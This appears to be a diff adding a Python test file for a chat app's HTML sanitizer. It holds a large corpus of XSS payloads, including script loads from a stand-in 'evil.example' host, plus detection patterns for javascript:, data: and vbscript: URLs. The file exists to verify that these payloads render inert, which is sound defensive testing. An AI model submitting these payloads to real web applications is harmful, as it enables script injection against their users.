@@ -1,0 +1,393 @@
+"""Rich text: the allow-list sanitizer against an XSS corpus (directly and
+through the room page), and what it keeps of Trix bodies, links, plain text
+and mentions."""
+
+import re
+import unittest
+from html.parser import HTMLParser
+
+from tests.helpers import campfire
+from tests.test_rooms import ChatTestCase, fragment_message_id
+
+XSS_PAYLOADS = [
+    # script
+    '<script>alert(1)</script>',
+    '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
+    '<script/src="data:text/javascript,alert(1)"></script>',
+    '<scr<script>ipt>alert(1)</scr</script>ipt>',
+    '<script>alert(1)',
+    '<<script>alert(1)//<</script>',
+    '<div><script type="module">import("//evil.example")</script></div>',
+    # event handlers, in any case and quoting
+    '<img src=x onerror=alert(1)>',
+    '<IMG SRC="x" ONERROR="alert(1)">',
+    '<img src=x oNeRrOr=alert`1`>',
+    '<svg onload=alert(1)>',
+    '<svg><script>alert(1)</script></svg>',
+    '<body onload=alert(1)>',
+    '<div onmouseover="alert(1)">hover</div>',
+    '<b onclick=alert(1)>bold</b>',
+    '<a href="https://example.com" onfocus=alert(1) autofocus>x</a>',
+    '<details open ontoggle=alert(1)>',
+    '<video><source onerror="alert(1)"></video>',
+    '<input autofocus onfocus=alert(1)>',
+    '<marquee onstart=alert(1)>x</marquee>',
+    '<div/onclick=alert(1)>slash</div>',
+    '<div\tonclick=alert(1)>tab</div>',
+    '<div\nonclick\n=\nalert(1)>newline</div>',
+    # javascript:, data:, vbscript: URLs with entity, whitespace and case tricks
+    '<a href="javascript:alert(1)">x</a>',
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href=" javascript:alert(1)">x</a>',
+    '<a href="java\tscript:alert(1)">x</a>',
+    '<a href="java&#x09;script:alert(1)">x</a>',
+    '<a href="java&#10;script:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    '<a href="&#x6A;avascript:alert(1)">x</a>',
+    '<a href="&#0000106avascript:alert(1)">x</a>',
+    '<a href="javascript&colon;alert(1)">x</a>',
+    '<a href="\x01javascript:alert(1)">x</a>',
+    '<a href="jav\x00ascript:alert(1)">x</a>',
+    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
+    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
+    '<a href="vbscript:msgbox(1)">x</a>',
+    '<a href="VBScript&#58;msgbox(1)">x</a>',
+    '<blockquote cite="javascript:alert(1)">q</blockquote>',
+    '<action-text-attachment url="javascript:alert(1)" href="javascript:alert(1)" '
+    'content-type="text/html"></action-text-attachment>',
+    '<a href=javascript:alert(1)>unquoted</a>',
+    '<a href="javascript:alert(1)" href="https://example.com">double href</a>',
+    # style
+    '<style>body{background:url("javascript:alert(1)")}</style>',
+    '<div style="background:url(javascript:alert(1))">x</div>',
+    '<p STYLE="x:expression(alert(1))">x</p>',
+    '<span style="position:fixed;inset:0" class="x">overlay</span>',
+    # embedding and document-changing tags
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">',
+    '<form action="javascript:alert(1)"><button>go</button></form>',
+    '<base href="javascript:alert(1)//">',
+    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<link rel="stylesheet" href="javascript:alert(1)">',
+    '<applet code="x"></applet>',
+    '<frameset onload=alert(1)>',
+    '<isindex action="javascript:alert(1)" type=image>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '<math href="javascript:alert(1)">x</math>',
+    # breaking out of attributes and tags
+    '<a title="x" onmouseover="alert(1)">q</a>',
+    '<a title=\'"><script>alert(1)</script>\'>q</a>',
+    '<a title="&quot; onmouseover=&quot;alert(1)">q</a>',
+    '<div class="a" "onclick="alert(1)">q</div>',
+    '<img """><script>alert(1)</script>">',
+    '<a href="https://example.com/"onmouseover="alert(1)">q</a>',
+    '"><img src=x onerror=alert(1)>',
+    "'><svg/onload=alert(1)>",
+    # unclosed tags, comments, CDATA, processing instructions
+    '<img src=x onerror=alert(1)',
+    '<div onclick="alert(1)"',
+    '<!--<img src=x onerror=alert(1)>-->',
+    '<!--><img src=x onerror=alert(1)>-->',
+    '<!-- --!><img src=x onerror=alert(1)>-->',
+    '<![CDATA[<img src=x onerror=alert(1)>]]>',
+    '<![foo[<img src=x onerror=alert(1)>]]>',
+    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
+    '<!DOCTYPE html><img src=x onerror=alert(1)>',
+    # mutation tricks
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<template><img src=x onerror=alert(1)></template>',
+    '<textarea><img src=x onerror=alert(1)></textarea>',
+    '<title><img src=x onerror=alert(1)></title>',
+    '<xmp><img src=x onerror=alert(1)></xmp>',
+    '<noembed><img src=x onerror=alert(1)></noembed>',
+    '<select><style><img src=x onerror=alert(1)></style></select>',
+    '<svg><p><style><img src=x onerror=alert(1)></style></p></svg>',
+    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=alert(1) src>">',
+    '<a href="https://example.com"><a href="javascript:alert(1)">nested</a></a>',
+    '<div>' * 200 + '<img src=x onerror=alert(1)>' + '</div>' * 200,
+    '<plaintext><img src=x onerror=alert(1)>',
+    '<listing><img src=x onerror=alert(1)></listing>',
+]
+
+URL_ATTRIBUTE_NAMES = frozenset(("href", "src", "action", "formaction", "cite", "url", "data", "srcdoc", "background",
+                                 "poster", "xlink:href", "content"))
+BAD_URL = re.compile(r"^\s*(javascript|data|vbscript):", re.I)
+
+
+class _Inspector(HTMLParser):
+    """Every start tag with its attributes, as a browser-like parser reads them."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tags = []
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append((tag, attrs))
+
+    handle_startendtag = handle_starttag
+
+
+def parsed_tags(html):
+    inspector = _Inspector()
+    inspector.feed(html)
+    inspector.close()
+    return inspector.tags
+
+
+def url_is_dangerous(value):
+    return bool(BAD_URL.match(re.sub(r"[\x00-\x20\x7f]", "", value or "")))
+
+
+class SanitizerCorpusTests(unittest.TestCase):
+    def test_corpus_is_big_enough(self):
+        self.assertGreaterEqual(len(XSS_PAYLOADS), 50)
+
+    def test_output_holds_only_allowed_tags_and_attributes(self):
+        for payload in XSS_PAYLOADS:
+            for link in (False, True):
+                with self.subTest(payload=payload[:80], link=link):
+                    output = campfire.sanitize_html(payload, link=link)
+                    for tag, attrs in parsed_tags(output):
+                        self.assertIn(tag, campfire.ALLOWED_TAGS)
+                        allowed = set(campfire.ALLOWED_ATTRIBUTES)
+                        if tag == campfire.ATTACHMENT_TAG:
+                            allowed |= campfire.ATTACHMENT_ATTRIBUTES
+                        if tag == "a":
+                            allowed |= {"target", "rel"}
+                        for name, value in attrs:
+                            self.assertIn(name, allowed)
+                            self.assertFalse(name.startswith("on"))
+                            self.assertNotEqual(name, "style")
+                            if name in URL_ATTRIBUTE_NAMES:
+                                self.assertFalse(url_is_dangerous(value), value)
+                    self.assertNotRegex(output, r"(?i)<\s*(script|style|iframe|svg|img|object|embed|form|base|meta|link)")
+
+    def test_sanitizing_is_idempotent(self):
+        for payload in XSS_PAYLOADS:
+            with self.subTest(payload=payload[:80]):
+                once = campfire.sanitize_html(payload, link=True)
+                self.assertEqual(campfire.sanitize_html(once, link=True), once)
+
+    def test_dropped_elements_lose_their_content(self):
+        for payload in ('<script>alert(1)</script>', '<style>p{}</style>', '<template><b>x</b></template>',
+                        '<iframe>frame text</iframe>', '<svg><text>svg text</text></svg>'):
+            with self.subTest(payload=payload):
+                self.assertEqual(campfire.sanitize_html(payload), "")
+
+    def test_pathological_input_is_fast_and_bounded(self):
+        import time
+        started = time.perf_counter()
+        for payload in ("<a " * 20_000, "<" * 50_000, "<div>" * 5_000, "&" * 50_000, "<!--" * 10_000,
+                        "<![" * 10_000):
+            output = campfire.sanitize_html(payload, link=True)
+            for tag, _ in parsed_tags(output):
+                self.assertIn(tag, campfire.ALLOWED_TAGS)
+        self.assertLess(time.perf_counter() - started, 5.0)
+
+    def test_nesting_is_capped_but_text_is_kept(self):
+        output = campfire.sanitize_html("<div>" * 500 + "deep" + "</div>" * 500)
+        self.assertIn("deep", output)
+        self.assertLessEqual(output.count("<div>"), campfire.MAX_NESTING_DEPTH)
+        self.assertEqual(output.count("<div>"), output.count("</div>"))
+
+
+class SanitizerBehaviourTests(unittest.TestCase):
+    def test_trix_bodies_are_preserved(self):
+        for body in ("<div>Hello <strong>there</strong></div>",
+                     "<div><em>it</em> <del>struck</del> <a href=\"/rooms/1/@5\">link</a></div>",
+                     "<h1>Title</h1><div>text<br>second line</div>",
+                     "<ul><li>one</li><li>two<ul><li>nested</li></ul></li></ul>",
+                     "<ol><li>first</li><li>second</li></ol>",
+                     "<blockquote>quoted<cite>Ada <a href=\"/rooms/1/@9\">#</a></cite></blockquote>",
+                     "<pre>code &lt;b&gt; &amp; https://example.com</pre>",
+                     "<div>a&nbsp;b &amp; c &lt; d</div>"):
+            with self.subTest(body=body):
+                self.assertEqual(campfire.sanitize_html(body, link=True), body)
+
+    def test_links_get_target_and_rel(self):
+        output = campfire.sanitize_html('<a href="https://example.com/x">x</a>')
+        self.assertEqual(output, '<a href="https://example.com/x" target="_blank" rel="noopener noreferrer">x</a>')
+        mail = campfire.sanitize_html('<a href="mailto:a@example.com" target="_self" rel="opener">m</a>')
+        self.assertEqual(mail, '<a href="mailto:a@example.com">m</a>')
+        protocol_relative = campfire.sanitize_html('<a href="//example.com">p</a>')
+        self.assertIn('target="_blank" rel="noopener noreferrer"', protocol_relative)
+
+    def test_bare_urls_are_auto_linked_outside_code(self):
+        output = campfire.sanitize_html("<div>see https://example.com/a. and www.example.org</div>", link=True)
+        self.assertIn('<a href="https://example.com/a" target="_blank" rel="noopener noreferrer">'
+                      'https://example.com/a</a>.', output)
+        self.assertIn('<a href="http://www.example.org" target="_blank" rel="noopener noreferrer">www.example.org</a>',
+                      output)
+        self.assertEqual(campfire.sanitize_html("<pre>https://example.com</pre>", link=True),
+                         "<pre>https://example.com</pre>")
+        self.assertEqual(campfire.sanitize_html("<code>https://example.com</code>", link=True),
+                         "<code>https://example.com</code>")
+        self.assertEqual(campfire.sanitize_html("plain https://example.com", link=False), "plain https://example.com")
+
+    def test_plain_text_is_escaped(self):
+        self.assertEqual(campfire.sanitize_html("1 < 2 & 3 > 2"), "1 &lt; 2 &amp; 3 &gt; 2")
+        self.assertEqual(campfire.sanitize_html('say "hi"'), "say &quot;hi&quot;")
+
+    def test_unclosed_tags_are_closed(self):
+        self.assertEqual(campfire.sanitize_html("<div><strong>bold"), "<div><strong>bold</strong></div>")
+        self.assertEqual(campfire.sanitize_html("</div>stray</strong>"), "stray")
+
+    def test_attachments_are_kept_only_when_allowed(self):
+        attachment = ('<action-text-attachment sgid="abc" content-type="application/vnd.campfire.mention">'
+                      '</action-text-attachment>')
+        self.assertEqual(campfire.sanitize_html(attachment), attachment)
+        self.assertEqual(campfire.sanitize_html(attachment, keep_attachment=lambda sgid, kind: False), "")
+
+    def test_plain_text_of_lists_breaks_and_blocks(self):
+        plain = campfire.html_to_plain_text
+        self.assertEqual(plain("<ul><li>one</li><li>two</li></ul>"), "• one\n• two")
+        self.assertEqual(plain("<ol><li>one</li><li>two<ul><li>x</li></ul></li></ol>"), "1. one\n2. two\n  • x")
+        self.assertEqual(plain("<div>a<br>b</div><div>c</div>"), "a\nb\nc")
+        self.assertEqual(plain("<p>para</p><p>two</p>"), "para\n\ntwo")
+        self.assertEqual(plain("<div>/play tada</div>"), "/play tada")
+        self.assertEqual(plain("<div>&lt;b&gt; &amp;&nbsp;x</div>"), "<b> &\xa0x")
+        self.assertEqual(plain("<div>hi<script>alert(1)</script></div>"), "hi")
+
+    def test_plain_text_of_mentions(self):
+        body = ('<div>Hi <action-text-attachment sgid="S" content-type="application/vnd.campfire.mention">'
+                '</action-text-attachment>!</div>')
+        self.assertEqual(campfire.html_to_plain_text(body, mention_name=lambda sgid: "Bob" if sgid == "S" else None),
+                         "Hi @Bob!")
+        self.assertEqual(campfire.html_to_plain_text(body), "Hi !")
+        with_content = ('<action-text-attachment sgid="?" content-type="application/vnd.campfire.mention" '
+                        'content="&lt;span&gt;Rita&lt;/span&gt;"></action-text-attachment>')
+        self.assertEqual(campfire.html_to_plain_text(with_content), "@Rita")
+
+    def test_render_rich_text_swaps_mentions_for_chips_and_drops_other_attachments(self):
+        stored = ('<div>a <action-text-attachment sgid="S" content-type="application/vnd.campfire.mention">'
+                  '</action-text-attachment> b <action-text-attachment content-type="image/png" url="/x.png">'
+                  '</action-text-attachment></div>')
+        rendered = campfire.render_rich_text(stored, mention=lambda sgid: '<span class="mention">Bob</span>')
+        self.assertEqual(rendered, '<div>a <span class="mention">Bob</span> b </div>')
+        unknown = campfire.render_rich_text(stored.replace('sgid="S" ', 'sgid="S" content="&lt;b&gt;Ann" '))
+        self.assertNotIn("<b>", unknown)
+        self.assertIn("Ann", unknown)
+
+    def test_sgids_round_trip_and_forgeries_fail(self):
+        secret = b"k" * 32
+        sgid = campfire.make_sgid(42, secret)
+        self.assertEqual(campfire.sgid_user_id(sgid), 42)
+        self.assertEqual(campfire.verify_sgid(sgid, secret), 42)
+        self.assertIsNone(campfire.verify_sgid(sgid, b"x" * 32))
+        self.assertIsNone(campfire.verify_sgid(sgid[:-1] + ("0" if sgid[-1] != "0" else "1"), secret))
+        self.assertIsNone(campfire.sgid_user_id("not base64 at all"))
+
+    def test_link_mentions_turns_member_names_into_attachments(self):
+        people = [("Bob", "SG-BOB"), ("Bob Builder", "SG-BB")]
+        output = campfire.link_mentions("<div>hi @Bob Builder and @bob, not bob@example.com</div>", people)
+        self.assertEqual(output.count("<action-text-attachment"), 2)
+        self.assertIn('sgid="SG-BB"', output)
+        self.assertIn('sgid="SG-BOB"', output)
+        self.assertIn("bob@example.com", output)
+        self.assertEqual(campfire.link_mentions('<a href="/x">@Bob</a><code>@Bob</code>', people),
+                         '<a href="/x">@Bob</a><code>@Bob</code>')
+
+    def test_link_mentions_matches_names_as_the_sanitizer_escapes_them(self):
+        for name in ("Dan O'Brien", "Tom & Jerry", 'Al "Bird" Parker', "Zoë <3"):
+            with self.subTest(name=name):
+                output = campfire.link_mentions(campfire.sanitize_html("hi @%s." % name), [(name, "SG")])
+                self.assertEqual(output, 'hi <action-text-attachment sgid="SG" '
+                                         'content-type="application/vnd.campfire.mention"></action-text-attachment>.')
+
+
+class _PageInspector(HTMLParser):
+    """Tags inside #messages, and every <script> in the document."""
+
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.depth = 0
+        self.messages_at = None
+        self.inside = []
+        self.scripts = []
+
+    def handle_starttag(self, tag, attrs):
+        attributes = dict(attrs)
+        if tag == "script":
+            self.scripts.append(attributes)
+        if self.messages_at is not None:
+            self.inside.append((tag, attrs))
+        elif attributes.get("id") == "messages":
+            self.messages_at = self.depth
+        if tag not in ("area", "base", "br", "col", "embed", "hr", "img", "input", "link", "meta", "source",
+                       "track", "wbr"):
+            self.depth += 1
+
+    def handle_endtag(self, tag):
+        self.depth -= 1
+        if self.messages_at is not None and self.depth == self.messages_at:
+            self.messages_at = None
+
+
+class PostedPayloadTests(ChatTestCase):
+    def assertPageIsClean(self, html):
+        self.assertEqual(len(re.findall(r"(?i)<script", html)), 1)
+        self.assertRegex(html, r'<head>.*<script type="module" src="/static/app\.js[^"]*"></script>.*</head>')
+        inspector = _PageInspector()
+        inspector.feed(html)
+        inspector.close()
+        self.assertEqual(len(inspector.scripts), 1)
+        for tag, attrs in inspector.inside:
+            self.assertNotIn(tag, ("script", "style", "iframe", "object", "embed", "svg", "math", "base", "meta",
+                                   "link", "template", "noscript", "textarea", "frameset", "applet", "video"))
+            if tag == "form":  # only the page's own per-message forms
+                self.assertRegex(dict(attrs).get("action", ""), r"^/(rooms|messages)/\d+/")
+            for name, value in attrs:
+                self.assertFalse(name.startswith("on"), (tag, name, value))
+                self.assertNotEqual(name, "style", (tag, value))
+                if name in URL_ATTRIBUTE_NAMES:
+                    self.assertFalse(url_is_dangerous(value), (tag, name, value))
+        messages = html[html.index('id="messages"'):html.index('id="composer"')]
+        self.assertIsNone(re.search(r'(?i)(href|src|action|cite|url)\s*=\s*"?\s*(javascript|data|vbscript):', messages))
+
+    def test_every_payload_posted_and_rendered_in_the_room_page_is_inert(self):
+        for index, payload in enumerate(XSS_PAYLOADS):
+            with self.subTest(payload=payload[:80]):
+                response = self.post(self.bob, 1, payload, client_message_id="xss-%d" % index)
+                self.assertIn(response.status, (201, 422))
+                page = self.ada.get("/rooms/1")
+                self.assertEqual(page.status, 200)
+                if response.status == 201:
+                    self.assertIn('id="message_%d"' % fragment_message_id(response), page.text)
+                self.assertPageIsClean(page.text)
+
+    def test_payloads_are_inert_in_fragments_search_and_permalinks(self):
+        ids = []
+        for index, payload in enumerate(XSS_PAYLOADS):
+            response = self.post(self.bob, 1, "needle%d " % index + payload)
+            self.assertEqual(response.status, 201, payload)
+            ids.append(fragment_message_id(response))
+            for tag, attrs in parsed_tags(response.text):
+                for name, value in attrs:
+                    self.assertFalse(name.startswith("on"), (payload, name))
+                    self.assertNotEqual(name, "style", payload)
+        for page in (self.ada.get("/rooms/1/@%d" % ids[10]).text, self.ada.get("/rooms/1/@%d" % ids[-10]).text):
+            self.assertPageIsClean(page)
+        fragment = self.ada.get("/rooms/1/messages?before=%d" % ids[-1]).text
+        self.assertNotRegex(fragment, r"(?i)<script|<img[^>]*onerror|<svg")
+        search = self.ada.get("/searches?q=alert").text
+        self.assertEqual(len(re.findall(r"(?i)<script", search)), 1)
+        self.assertNotRegex(search, r"(?i)<img[^>]*onerror|<svg|javascript:alert\(1\)\"")
+
+    def test_other_user_supplied_values_are_escaped_too(self):
+        payload = '"><script>alert(1)</script><img src=x onerror=alert(1)>'
+        response = self.post(self.bob, 1, "fine", client_message_id=payload)
+        self.assertEqual(response.status, 201)
+        message = fragment_message_id(response)
+        self.assertEqual(self.bob.post("/messages/%d/boosts" % message, {"boost[content]": "<svg onload=x>"}).status,
+                         201)
+        self.ada.post("/rooms/opens/1", {"_method": "patch", "room[name]": payload})
+        self.assertPageIsClean(self.ada.get("/rooms/1").text)
+        self.assertPageIsClean(self.bob.get("/rooms/1").text)
+        search = self.ada.get("/searches?q=" + "%22%3E%3Cscript%3Ealert(1)%3C/script%3E").text
+        self.assertEqual(len(re.findall(r"(?i)<script", search)), 1)
+
+
+if __name__ == "__main__":
+    unittest.main()
